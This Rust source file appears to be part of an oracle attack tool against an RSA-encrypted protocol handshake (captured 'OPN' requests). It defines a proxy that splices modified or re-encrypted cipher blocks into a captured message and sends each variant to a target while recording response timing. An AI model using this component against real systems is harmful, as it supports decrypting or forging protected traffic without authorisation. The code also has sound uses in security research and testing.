use crypto_bigint::{Encoding, Uint};
use tracing::trace;

use super::{check_block_len, OracleError};
use crate::{
    bigint::rsa::{Key, PublicKey, RSA},
    cipher::{CipherText, FormatError},
    transport::{QueryResult, Transport},
};

/// Sends variations of one captured OPN request to the target.
///
/// Every query replaces one cipher block of the captured message and transmits the result,
/// the captured message itself is never modified.
pub struct VictimProxy<const LIMBS: usize, T: Transport> {
    public_key: PublicKey<LIMBS>,
    ciphertext: CipherText,
    block_index: usize,
    /// Copy of the targeted block, taken when the index is chosen
    cipher_block: Vec<u8>,
    transport: T,
}

impl<const LIMBS: usize, T: Transport> VictimProxy<LIMBS, T>
where
    Uint<LIMBS>: Encoding,
{
    /// Proxy for the first cipher block of `ciphertext`
    pub fn new(public_key: PublicKey<LIMBS>, ciphertext: Vec<u8>, transport: T) -> Result<Self, FormatError> {
        let ciphertext = CipherText::new(ciphertext, public_key.block_len())?;
        let cipher_block = ciphertext.block(0)?.to_vec();
        Ok(Self {
            public_key,
            ciphertext,
            block_index: 0,
            cipher_block,
            transport,
        })
    }

    /// Targets another block of the captured message
    pub fn with_block_index(mut self, index: usize) -> Result<Self, FormatError> {
        self.cipher_block = self.ciphertext.block(index)?.to_vec();
        self.block_index = index;
        Ok(self)
    }

    pub fn public_key(&self) -> &PublicKey<LIMBS> {
        &self.public_key
    }

    pub fn block_len(&self) -> usize {
        self.ciphertext.layout().block_size
    }

    /// The captured cipher block under attack
    pub fn cipher_block(&self) -> &[u8] {
        &self.cipher_block
    }

    /// Sends the captured message with `block` in place of the targeted block
    pub fn send_cipher_block(&mut self, block: &[u8]) -> Result<QueryResult, OracleError> {
        check_block_len(block, self.block_len())?;
        let message = self
            .ciphertext
            .spliced(self.block_index, block)
            .map_err(|_| OracleError::InvalidBlockSize {
                expected: self.block_len(),
                actual: block.len(),
            })?;
        let result = self.transport.exchange(message.as_bytes())?;
        trace!(elapsed = ?result.elapsed, "cipher block sent");
        Ok(result)
    }

    /// Encrypts `plain_block` with the target's public key and sends it as cipher block
    pub fn send_encrypted_plain_block(&mut self, plain_block: &[u8]) -> Result<QueryResult, OracleError> {
        let invalid = || OracleError::InvalidBlockSize {
            expected: self.block_len(),
            actual: plain_block.len(),
        };
        if plain_block.len() > self.block_len() {
            return Err(invalid());
        }
        let block = RSA::apply_block(&self.public_key, plain_block).ok_or_else(invalid)?;
        self.send_cipher_block(&block)
    }
}
